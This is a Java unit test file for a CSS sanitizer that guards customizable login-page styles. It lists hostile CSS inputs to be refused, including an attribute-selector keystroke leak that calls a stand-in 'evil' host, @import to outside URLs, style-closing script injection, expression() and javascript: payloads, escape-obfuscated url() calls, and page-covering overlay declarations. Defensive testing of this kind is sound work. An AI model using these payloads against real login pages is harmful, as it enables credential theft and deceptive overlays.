package dev.keypool.hostedui.css;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.keypool.hostedui.RefusedException;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HostileStylesTest {

    private static final String LABEL = ".label-customizable";

    @ParameterizedTest
    @ValueSource(strings = {
            // Keystrokes told by attributes.
            ".inputField-customizable[value^='a']{background:url(//evil/a)}", "input[type=password][value$=a]{color:red}", "[value]{color:red}",
            ".inputField-customizable[value]{color:red}", "*{color:red}", ":root{color:red}", "#kc-form{color:red}", "html{color:red}",
            ".label-customizable *{color:red}", ".label-customizable>a{color:red}", ".label-customizable~a{color:red}", ".label-customizable+a{color:red}",
            ".label-customizable .logo-customizable{color:red}", ".label-customizable.other{color:red}", ".label-customizable#id{color:red}",
            ".label-customizable:has(input){color:red}", ".label-customizable:not(a){color:red}", ".label-customizable:is(input[value^=a]){color:red}",
            ".label-customizable:visited{color:red}", ".label-customizable::selection{color:red}", ".label-customizable::part(a){color:red}",
            ".label-customizable:hover:focus{color:red}", ".label-customizable::before:hover{color:red}", ".label-customizable::hover{color:red}",
            ".LABEL-customizable{color:red}", ".label-customizable2{color:red}", ".label\\-customizable{color:red}", "ns|label{color:red}",
            ".l\\61 bel-customizable{color:red}", ".label-customizable,{color:red}", ",.label-customizable{color:red}", ".{color:red}", "{color:red}",
            // At-rules.
            "@import 'a'", "@import url(//evil);", "@\\69mport 'a';", "@media all{.label-customizable{color:red}}", "@font-face{font-family:a;src:url(a)}",
            "@supports (a:b){}", "@page{}", "@charset 'utf-7';", "@namespace url(a);", "@keyframes a{from{top:0}}", "@layer a;", "@property --a{}",
            "@", "@{}", "@media{", ".label-customizable{@media all{color:red}}",
            // What CSS has beside rules.
            "<!-- .label-customizable{color:red} -->", "</style><script>alert(1)</script>", ".label-customizable{color:red}}",
            ".label-customizable{color:red", ".label-customizable{.logo-customizable{color:red}}", ".label-customizable{&:hover{color:red}}",
            ".label-customizable{color:red}/*", ".label-customizable::before{content:'a", ".label-customizable::before{content:'a\n'}", ".label-customizable",
            "\\", "\uFEFF\uFEFF.label-customizable{}", ".label-customizable{\u0000color:red}"})
    void selectorsAndRulesThatReachFurther(String css) {
        assertRefused(css);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            // Addresses.
            "background:url(//evil)", "background:URL('//evil')", "background-image:url(data:image/png;base64,AAAA)", "background:u\\72l(//evil)",
            "background:\\75\\72\\6c(//evil)", "cursor:url(a),auto", "background:image-set('//evil' 1x)", "background:-webkit-image-set(url(a) 1x)",
            "background:image(url(a))", "background:cross-fade(url(a),url(b))", "background:element(#a)", "background:src('//evil')", "list-style:url(a)",
            "background:u/**/rl(//evil)", "background:ur\nl(a)", "background:url (a)", "background:url(", "background:linear-gradient(url(a))",
            "background:rgb(url(a))", "background:ｕｒｌ(//evil)", "color:attr(value)", "color:env(a)", "color:var(--a)", "--a:red", "color:rgb(var(--a),1,1)",
            "background:paint(a)", "mask:url(a)", "border-image:url(a) 1", "filter:url(a)", "clip-path:url(#a)", "shape-outside:url(a)", "src:url(a)",
            // Code.
            "width:expression(alert(1))", "width:exp/**/ression(alert(1))", "width:e\\xpression(alert(1))", "behavior:url(a.htc)", "-moz-binding:url(a#b)",
            "color:javascript:alert(1)", "filter:progid:DXImageTransform.Microsoft.Alpha()", "*zoom:1", "_height:1px", "color:red\\9", "color:red\\",
            // Covering the page.
            "position:fixed", "position:absolute", "position:sticky", "position:-webkit-sticky", "position:inherit", "top:0", "left:-9999px", "inset:0",
            "z-index:1", "transform:scale(99)", "translate:10px", "scale:9", "rotate:3deg", "zoom:9", "margin:-9999px", "margin-top:-33px", "margin:-1em",
            "margin:-99vh 0", "width:9999px", "width:99999em", "height:101vh", "height:1001px", "min-height:2000px", "width:calc(100% * 99)",
            "width:calc(9999px + 1px)", "width:calc(calc(1px))", "width:max(1px,9999px)", "width:calc(1px + 1px + 1px + 1px + 1px)", "width:calc(1px+2px)",
            "box-shadow:0 0 0 9999px black", "box-shadow:0 0 0 99em black", "box-shadow:0 0 0 1ch black", "text-shadow:0 999px red", "outline:9999px solid red", "outline-offset:999px",
            "border:9999px solid", "border-left-width:9vw", "text-indent:-9999px", "letter-spacing:-50px", "word-spacing:999px", "font-size:999px", "font-size:9999%",
            "line-height:99", "line-height:999px", "font:900px serif", "vertical-align:999px", "padding:9999px", "gap:999px", "opacity:2", "-webkit-opacity:.5",
            "filter:drop-shadow(99px 0 red)", "backdrop-filter:blur(1px)", "mix-blend-mode:difference", "will-change:transform", "contain:none", "perspective:1px",
            "all:unset", "direction:rtl", "unicode-bidi:bidi-override", "writing-mode:vertical-rl", "pointer-events:none", "user-select:none", "order:1",
            "animation:a 1s", "grid-area:1/1", "display:grid", "display:contents", "background-attachment:fixed", "transition:top 1s", "transition:all 99s",
            "-webkit-text-security:disc", "content:'a'",
            "flex-direction:column-reverse", "flex-direction:row-reverse", "flex-wrap:wrap-reverse", "align-items:unsafe end", "align-items:last baseline", "justify-content:space-around",
            "align-content:space-evenly", "place-items:end", "place-content:end", "outline:17px solid", "outline-width:1em", "outline-offset:17px", "box-shadow:0 -65px 0 red",
            "text-shadow:0 -33px red", "padding:13px 0", "margin-top:-13px", "margin:0 0 -1.1em", "margin-block:-1em", "padding-top:5%", "padding:1px 1px 2em", "padding-block:9vh", "border:40px solid", "border-top-width:3rem",
            "display:inline;padding:33px", "anchor-name:--a", "position-anchor:--a", "view-transition-name:a", "translate:var(--a)", "background:light-dark(red,url(a))",
            "color:light-dark(red,blue)", "width:anchor-size(width)", "width:min(9999px,9999px)", "width:round(1px,9999px)", "content-visibility:hidden", "scroll-snap-type:x", "src:local(a)", "float:footnote", "columns:9", "shape-margin:9px",
            // Numbers and lists without end.
            "width:1e9px", "width:1e+9px", "width:1E9%", "width:99999999999999999999999999px", "width:0.0000000000000000000000000001px", "width:1.2.3px",
            "margin:1px 1px 1px 1px 1px", "color:red red", "color:#12", "color:#ggg", "color:#1234567", "width:10furlongs", "width:10", "color:", "color", ":red", "color:red;;x",
            "color:[red]", "color:(red)", "color:{red}", "color:red!", "color:red!important!important", "color:red !ie", "font-family:a b c \\64", "font-family:Ünï",
            // What could not be read again as it would be written.
            "justify-content:center center", "justify-content:space-between center", "justify-content:center safe", "align-items:safe center center", "opacity:1e-19",
            "color:rgb(1e20,0,0)", "background:linear-gradient(1e20px,red)", "transition:all cubic-bezier(10000000000 10000000000 1 1)", "transition:all cubic-bezier(1,1,1)",
            "color:rgb(1deg,2,3)", "color:rgb(0 0 0 / 5deg)", "color:hsl(50%,2%,3%)", "color:hsl(1,2deg,3%)"})
    void declarationsThatReachFurther(String declaration) {
        assertRefused(LABEL + "{" + declaration + "}");
    }

    @ParameterizedTest
    @ValueSource(strings = {"url(a)", "attr(value)", "counter(a)", "counters(a,'')", "open-quote", "'a' url(a)", "'a' attr(href)", "linear-gradient(red,blue)",
            "'a'/'b'", "element(#a)", "var(--a)", "a", "1", "'a''b''c''d''e'"})
    void contentIsLiteralText(String content) {
        assertRefused(LABEL + "::before{content:" + content + "}");
    }

    @Test
    void whatLiftsAnElementAndWhatFillsItDoNotMeet() throws RefusedException {
        assertRefused(".banner-customizable{opacity:.99;height:0}.banner-customizable:before{content:'x';display:block;height:900px}");
        assertRefused(".banner-customizable:after{content:'x'}.label-customizable,.banner-customizable:hover{position:relative}");
        assertRefused(".banner-customizable:after{content:'x';opacity:.5}");
        assertRefused(".banner-customizable:after{content:'x';float:left}");
        assertThat(written(".banner-customizable:after{content:'x';float:none;position:static}.label-customizable{opacity:.5;position:relative}")).isNotEmpty();
    }

    /** A container of no height, and what is in it at its end, covers what is above. */
    @Test
    void whatIsTooLargeForItsPlaceDoesNotReachOutAboveIt() throws RefusedException {
        for (String aligned : List.of("align-items:flex-end", "align-items:center", "align-content:end", "justify-content:center", "align-self:flex-end", "justify-content:right")) {
            String[] parts = aligned.split(":");
            assertThat(written(".redirect-customizable{display:flex;height:0;" + aligned + "}")).endsWith(";" + parts[0] + ":safe " + parts[1] + "}\n");
        }
        assertThat(written(LABEL + "{align-items:safe center}")).isEqualTo(LABEL + "{align-items:safe center}\n");
    }

    /** Fields lie above buttons, and both above links: shadows too. */
    @Test
    void whatIsDrawnAroundAFieldDoesNotHideWhatIsBesideIt() throws RefusedException {
        for (String drawn : List.of("box-shadow:0 64px 0 64px #fff", "box-shadow:inset 0 0 9px red,0 0 rgba(1,2,3,.5) 9px 8px", "-webkit-box-shadow:0 -17px red", "box-shadow:0 .2em red",
                "outline:9px solid red", "outline-offset:9px", "box-shadow:0 13pt red")) {
            assertRefused(".inputField-customizable{" + drawn + "}");
            assertRefused(LABEL + ",.inputField-customizable:focus{" + drawn + "}");
            assertThat(written(LABEL + "{" + drawn + "}")).isNotEmpty();
        }
        for (String drawn : List.of("box-shadow:inset 0 0 64px red", "box-shadow:0 0 0 .2rem rgba(0,123,255,.25)", "box-shadow:inset 0 1px 1px rgba(0,0,0,.075),0 0 8px rgba(102,175,233,.6)",
                "outline:3px solid red", "outline-offset:-8px", "box-shadow:none")) {
            assertThat(written(".inputField-customizable:focus{" + drawn + "}")).as(drawn).isNotEmpty();
        }
        assertThat(written(".submitButton-customizable{box-shadow:0 8px 10px 1px rgba(0,0,0,.14),0 3px 14px 2px rgba(0,0,0,.12)}")).isNotEmpty();
        assertRefused(".submitButton-customizable{box-shadow:0 64px 0 64px #fff}");
    }

    @Test
    void whatRunsInALineIsNotPaintedOverItsNeighbours() throws RefusedException {
        assertRefused(LABEL + "::before{content:'x';padding:200px 0;background:white}");
        assertRefused(LABEL + "{display:block}" + LABEL + "::before{content:'x';padding:200px 0}");
        assertRefused(".banner-customizable{padding:200px}.banner-customizable:hover{display:inline}");
        assertRefused(".banner-customizable{padding:200px;display:initial}");
        assertRefused(LABEL + ":hover{display:block}" + LABEL + "{padding:200px}");
        assertRefused(LABEL + ",.banner-customizable{padding:200px}");
        for (String taken : List.of(".banner-customizable{padding:200px}", LABEL + "{padding:200px;display:block}", LABEL + "{display:inline-block}" + LABEL + ":hover{padding:200px}",
                LABEL + "{padding:12px 400px}", LABEL + "{margin:20px -15px -12px -32px}", LABEL + "::before{content:'x';display:inline-block;padding:1.5em}", LABEL + "{border:1px solid rgb(200 200 200)}", LABEL + "{padding:.5em 1em}")) {
            assertThat(written(taken)).as(taken).isNotEmpty();
        }
    }

    @Test
    void sentencesRepeatNothingThatIsLongOrInvisible() {
        assertThatThrownBy(() -> written(".label-customizable{color:" + "x".repeat(1000) + "}.a\u202E\u0007{}"))
                .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(400).doesNotContain("\u202E", "\u0007"));
    }

    @Test
    void noTextTakesLong() {
        for (String piece : List.of("{", "}", "(", "[", "/*", "*/", "/", "\\", "'", "\"", "@a", "@", ".a{", "a{b:", ":", ";", "-", "--", "url(", "rgb(", "calc(", ",", "!",
                "1e", "9", ".", "#", "\n", "\r", "\u00fc", "\uD83D", ".label-customizable{color:red}", ".label-customizable,", ".label-customizable::before{content:'a'}",
                ".label-customizable{font-family:a a,a", "a ", "linear-gradient(", "!important ")) {
            String css = piece.repeat(ClassicStyles.MAX_BYTES / piece.length());
            assertTimeoutPreemptively(Duration.ofSeconds(5), () -> attempt(css), piece);
            assertTimeoutPreemptively(Duration.ofSeconds(5), () -> attempt(".label-customizable{color:" + css.substring(0, css.length() - 200)), piece);
        }
    }

    /** Whatever comes out is within the language that is taken, says nothing but ASCII, and comes out of itself. */
    @Test
    void anyMixtureIsRefusedOrSafe() throws RefusedException {
        String[] pieces = {".label-customizable", ".logo-customizable", ":hover", "::before", ":after", "{", "}", ";", ":", ",", " ", "\n", "color", "content", "width", "font-family",
                "background", "red", "#fff", "10px", "50%", "'text'", "\"q\\\"\"", "'\\3c'", "url(", "url(a)", ")", "(", "rgb(1,2,3)", "/*", "*/", "\\", "@import", "!important", "calc(", "+", "-",
                "Open Sans", "position", "fixed", "attr(x)", "<", ">", "[a=b]", "*", "--x", "var(--x)", "\u00fc", "linear-gradient(red,blue)", "{color:red}", "{content:'x'}", "1e9", ".5"};
        Random random = new Random(20260101);
        int taken = 0;
        String[] rules = {LABEL + "{color:red;width:calc(1px + 2%)}", LABEL + ":hover::before{content:'a' \"b\"}", LABEL + ",.logo-customizable{font:bold 1px/2 A b,serif}"};
        for (int round = 0; round < 30_000; round++) {
            StringBuilder css = new StringBuilder(rules[random.nextInt(rules.length)]).append(rules[random.nextInt(rules.length)]);
            for (int i = random.nextInt(3); i >= 0; i--) {
                int at = random.nextInt(css.length());
                css.replace(at, Math.min(css.length(), at + random.nextInt(4)), pieces[random.nextInt(pieces.length)]);
            }
            String written = attempt(css.toString());
            if (written != null && !written.isEmpty()) {
                taken++;
                assertThat(written).matches("[ -~\\n]*");
                assertThat(written.replaceAll("\"[^\"]*\"", "")).doesNotContainIgnoringCase("url(", "attr(", "var(", "@", "<", "fixed", "/*", "[", "javascript");
                assertThat(written(written)).isEqualTo(written);
            }
        }
        assertThat(taken).isGreaterThan(100);
    }

    private static String written(String css) throws RefusedException {
        return ClassicStyles.read(css).written();
    }

    private static String attempt(String css) {
        try {
            return written(css);
        } catch (RefusedException e) {
            return null;
        }
    }

    private static void assertRefused(String css) {
        assertThatThrownBy(() -> written(css)).as(css).isInstanceOf(RefusedException.class)
                .satisfies(e -> assertThat(((RefusedException) e).refusals()).isNotEmpty());
    }
}
